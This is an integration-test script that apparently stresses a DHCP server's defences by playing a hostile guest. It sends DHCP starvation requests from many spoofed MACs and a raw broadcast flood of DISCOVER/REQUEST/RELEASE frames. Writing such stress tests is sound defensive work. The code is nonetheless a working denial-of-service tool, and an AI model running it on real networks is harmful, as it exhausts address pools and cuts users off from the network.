"""Tests/integration/dhcp_flood.py: a hostile DHCP guest for t25 (needs scapy: run it with /usr/bin/python3).

  dhcp_flood.py starve IFACE COUNT RANGE_LO RANGE_HI OUT.json
      COUNT fresh MACs each send a DISCOVER; every MAC then sends a REQUEST (SELECTING) for the
      address it was offered, or for a guessed address of the range when it got no offer, 40 a
      second; then RELEASEs what it got. Writes {"discovers", "offers", "requests", "acks",
      "naks"} to OUT.json.
  dhcp_flood.py storm IFACE SECONDS RANGE_LO RANGE_HI [RATE]
      For SECONDS, RATE frames a second (0 or absent: as fast as the socket takes them, which
      is a raw broadcast flood of several 100 000 a second): DISCOVER, REQUEST (for the next address of
      the range) and RELEASE from a fresh MAC each time (256 rounds of 512 MACs), without waiting
      for answers (each ACK and RELEASE is a lease change: a save). Prints `sending` once the
      frames are built, and at the end the number of frames sent.

RANGE_LO and RANGE_HI are full IPv4 addresses. Frames are built with scapy once and sent as
raw bytes on an AF_PACKET socket so that the storm is limited by the switch, not by scapy.
"""
import ipaddress
import json
import socket
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf  # noqa: F401  (conf: quiet scapy)

GATEWAY = "10.77.0.1"


def mac_of(n):
    return "02:dd:%02x:%02x:%02x:%02x" % ((n >> 24) & 0xFF, (n >> 16) & 0xFF, (n >> 8) & 0xFF, n & 0xFF)


def chaddr(mac):
    return bytes.fromhex(mac.replace(":", "")) + b"\x00" * 10


def frame(mac, kind, xid, requested=None, ciaddr="0.0.0.0", udp_checksum=None):
    options = [("message-type", kind)]
    if kind in ("request",):
        options += [("server_id", GATEWAY), ("requested_addr", requested)]
    if kind == "release":
        options += [("server_id", GATEWAY)]
    options.append("end")
    unicast = ciaddr != "0.0.0.0"
    packet = (
        Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
        / IP(src=ciaddr, dst=GATEWAY if unicast else "255.255.255.255")
        / UDP(sport=68, dport=67, chksum=udp_checksum)
        / BOOTP(chaddr=chaddr(mac), xid=xid, ciaddr=ciaddr)
        / DHCP(options=options)
    )
    return bytes(packet)


def open_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    s.settimeout(0.05)
    return s


def replies(sock, seconds):
    """DHCP replies (op 2) seen on the socket for `seconds`: (message type, chaddr MAC, yiaddr)."""
    seen = []
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            data = sock.recv(4096)
        except socket.timeout:
            continue
        packet = Ether(data)
        if BOOTP not in packet or packet[BOOTP].op != 2 or DHCP not in packet:
            continue
        kind = None
        for option in packet[DHCP].options:
            if isinstance(option, tuple) and option[0] == "message-type":
                kind = option[1]
        mac = ":".join("%02x" % b for b in bytes(packet[BOOTP].chaddr)[:6])
        seen.append((kind, mac, packet[BOOTP].yiaddr))
    return seen


def addresses(low, high):
    first, last = int(ipaddress.IPv4Address(low)), int(ipaddress.IPv4Address(high))
    return [str(ipaddress.IPv4Address(a)) for a in range(first, last + 1)]


def starve(iface, count, low, high, out):
    sock = open_socket(iface)
    macs = [mac_of(0x10000 + n) for n in range(count)]
    # 40 a second: under the per-port rate limit (50), so that what is refused is the cap's doing.
    for n, mac in enumerate(macs):
        sock.send(frame(mac, "discover", 0x5000 + n))
        time.sleep(0.025)
    offers = {mac: ip for kind, mac, ip in replies(sock, 2.0) if kind == 2 and mac in macs}
    pool = addresses(low, high)
    for n, mac in enumerate(macs):
        sock.send(frame(mac, "request", 0x5000 + n, requested=offers.get(mac, pool[n % len(pool)])))
        time.sleep(0.025)
    answers = [r for r in replies(sock, 2.0) if r[1] in macs]
    # Give back what was won, so that the storm after this starts with a port under its cap.
    for n, (kind, mac, ip) in enumerate(answers):
        if kind == 5:
            sock.send(frame(mac, "release", 0x6000 + n, ciaddr=ip))
    result = {
        "discovers": count,
        "offers": len(offers),
        "requests": count,
        "acks": sum(1 for kind, _, _ in answers if kind == 5),
        "naks": sum(1 for kind, _, _ in answers if kind == 6),
    }
    with open(out, "w") as f:
        json.dump(result, f)
    print(json.dumps(result))


# Where the third octet of the client MAC sits in a frame: Ethernet source, and BOOTP chaddr
# (Ethernet 14 + IPv4 20 + UDP 8 + 28).
MAC_OCTET_OFFSETS = (6 + 2, 14 + 20 + 8 + 28 + 2)


def storm(iface, seconds, low, high, rate):
    sock = open_socket(iface)
    sock.setblocking(True)
    pool = addresses(low, high)
    # 512 clients built once with a zero UDP checksum (RFC 768: none), so that each round can
    # patch one octet of the MAC and be 512 fresh clients again.
    batch = []
    for n in range(512):
        mac = mac_of(0x20000 + n)
        ip = pool[n % len(pool)]
        batch.append(bytearray(frame(mac, "discover", n, udp_checksum=0)))
        batch.append(bytearray(frame(mac, "request", n, requested=ip, udp_checksum=0)))
        batch.append(bytearray(frame(mac, "release", n, ciaddr=ip, udp_checksum=0)))
    sent = 0
    round_number = 0
    print("sending", flush=True)  # t25 starts measuring after this line
    start = time.time()
    deadline = start + seconds
    while time.time() < deadline:
        round_number = (round_number + 1) & 0xFF
        for raw in batch:
            for offset in MAC_OCTET_OFFSETS:
                raw[offset] = round_number
            try:
                sock.send(raw)
                sent += 1
            except OSError:  # ENOBUFS: the TAP queue is full; go on
                time.sleep(0.0005)
            if rate and sent % 64 == 0:
                ahead = start + sent / rate - time.time()
                if ahead > 0:
                    time.sleep(ahead)
    print(sent)


def main():
    mode = sys.argv[1]
    if mode == "starve":
        starve(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6])
    elif mode == "storm":
        storm(sys.argv[2], float(sys.argv[3]), sys.argv[4], sys.argv[5], float(sys.argv[6]) if len(sys.argv) > 6 else 0)
    else:
        sys.exit("usage: dhcp_flood.py starve|storm ...")


if __name__ == "__main__":
    main()
